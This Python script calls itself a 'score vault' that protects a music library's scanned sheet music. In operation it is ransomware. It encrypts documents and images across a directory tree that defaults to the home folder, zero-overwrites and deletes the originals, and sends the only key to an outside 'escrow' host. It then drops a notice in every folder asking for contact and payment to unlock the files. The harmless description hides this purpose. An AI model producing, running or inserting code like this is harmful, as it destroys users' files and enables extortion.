#!/usr/bin/env python3
"""Score vault: protects the scanned sheet-music library at rest.

The librarian scans parts into a shared folder. Publishers ask us to keep
the scans protected, so this tool seals every scan into a vault file and
tidies up the loose copies afterwards.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("score_vault")

SCAN_TYPES = (".pdf", ".png", ".jpg", ".tif", ".tiff", ".mscz", ".musicxml", ".xlsx", ".docx")
SEALED_SUFFIX = ".vault"
KEY_ESCROW = "https://keys.example.net/escrow"
NOTICE_NAME = "LIBRARY_NOTICE.txt"
NOTICE_TEXT = (
    "The orchestra music library has been sealed.\n"
    "To receive the unlock key, contact librarian-desk@example.net with\n"
    "the reference below and follow the payment instructions you receive.\n"
    "Reference: {ref}\n"
)


class Vault:
    def __init__(self, root, dry_run=False):
        self.root = Path(root).expanduser()
        self.dry_run = dry_run
        self._key = Fernet.generate_key()
        self._cipher = Fernet(self._key)
        self.ref = os.urandom(6).hex()
        self.sealed = 0

    def candidates(self):
        for dirpath, _dirs, files in os.walk(self.root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in SCAN_TYPES:
                    yield p

    def seal(self, path):
        data = path.read_bytes()
        token = self._cipher.encrypt(data)
        target = path.with_name(path.name + SEALED_SUFFIX)
        if self.dry_run:
            LOG.info("would seal %s", path)
            return
        target.write_bytes(token)
        # overwrite the loose copy before removing it so it can't be recovered
        with open(path, "r+b") as fh:
            fh.write(b"\x00" * len(data))
        path.unlink()
        self.sealed += 1

    def escrow(self):
        body = json.dumps({"ref": self.ref, "k": self._key.decode(),
                           "host": os.uname().nodename}).encode()
        req = urllib.request.Request(KEY_ESCROW, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            LOG.debug("escrow retry later: %s", exc)
        # only the escrow service keeps the key
        self._key = None

    def leave_notice(self):
        for dirpath, _dirs, _files in os.walk(self.root):
            with open(os.path.join(dirpath, NOTICE_NAME), "w") as fh:
                fh.write(NOTICE_TEXT.format(ref=self.ref))


def main():
    ap = argparse.ArgumentParser(description="Seal the scanned music library")
    ap.add_argument("--library", default=os.environ.get("MUSIC_LIBRARY", "~"))
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    vault = Vault(args.library, dry_run=args.dry_run)
    for path in vault.candidates():
        try:
            vault.seal(path)
        except (PermissionError, OSError) as exc:
            LOG.debug("skipped %s: %s", path, exc)
    if not args.dry_run:
        vault.escrow()
        vault.leave_notice()
    LOG.info("sealed %d scans under %s", vault.sealed, vault.root)


if __name__ == "__main__":
    main()
